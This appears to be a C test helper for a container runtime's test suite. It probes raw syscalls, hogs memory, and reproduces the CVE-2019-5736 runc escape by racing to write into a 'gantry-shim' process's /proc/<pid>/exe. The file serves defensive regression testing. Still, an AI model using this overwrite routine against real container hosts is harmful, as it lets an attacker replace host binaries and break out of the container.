/*
 * Test helper copied into the test rootfs.
 *   probe syscall NR[:ARG...] ...   make each raw syscall, print "NR errno" (0 when it succeeded)
 *   probe hog                        allocate and touch memory until killed
 *   probe exe-watch SECONDS          CVE-2019-5736: watch for a gantry-shim process, grab its /proc/<pid>/exe
 *                                    and try to write it; print "found wrote=<0|1> errno=<n>" per catch
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <time.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static void probe_syscall(char *spec)
{
	long a[6] = { 0 };
	long nr = strtol(strtok(spec, ":"), NULL, 0);
	char *arg;
	long r;

	for (int i = 0; i < 6 && (arg = strtok(NULL, ":")) != NULL; i++)
		a[i] = strtol(arg, NULL, 0);
	errno = 0;
	r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	printf("%ld %d\n", nr, r < 0 ? errno : 0);
	fflush(stdout);
}

/* Like the runc exploit: an O_PATH handle taken while the shim runs, reopened for writing until not busy. */
static void try_overwrite(const char *exe)
{
	char self[64];
	int path_fd = open(exe, O_PATH | O_CLOEXEC), err = 0, wrote = 0;

	if (path_fd < 0)
		return;
	snprintf(self, sizeof(self), "/proc/self/fd/%d", path_fd);
	for (int i = 0; i < 2000; i++) {
		int w = open(self, O_WRONLY | O_CLOEXEC);

		if (w >= 0) {
			wrote = write(w, "x", 1) == 1;
			err = wrote ? 0 : errno;
			close(w);
			break;
		}
		err = errno;
		if (err != ETXTBSY)
			break;
		usleep(100);
	}
	close(path_fd);
	printf("found wrote=%d errno=%d\n", wrote, err);
	fflush(stdout);
}

static void exe_watch(int seconds)
{
	time_t end = time(NULL) + seconds;
	char path[300], link[256];

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *ent;

		while (d != NULL && (ent = readdir(d)) != NULL) {
			ssize_t n;

			if (ent->d_name[0] < '0' || ent->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", ent->d_name);
			n = readlink(path, link, sizeof(link) - 1);
			if (n <= 0)
				continue;
			link[n] = '\0';
			if (strstr(link, "gantry-shim") != NULL)
				try_overwrite(path);
		}
		if (d != NULL)
			closedir(d);
	}
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "exe-watch") == 0) {
		exe_watch(atoi(argv[2]));
		return 0;
	}
	if (argc >= 2 && strcmp(argv[1], "hog") == 0) {
		for (;;) {
			char *p = malloc(1 << 20);

			if (p != NULL)
				memset(p, 1, 1 << 20);
		}
	}
	if (argc >= 2 && strcmp(argv[1], "syscall") == 0) {
		for (int i = 2; i < argc; i++)
			probe_syscall(argv[i]);
		return 0;
	}
	fprintf(stderr, "usage: probe syscall NR[:ARG...]... | hog\n");
	return 2;
}
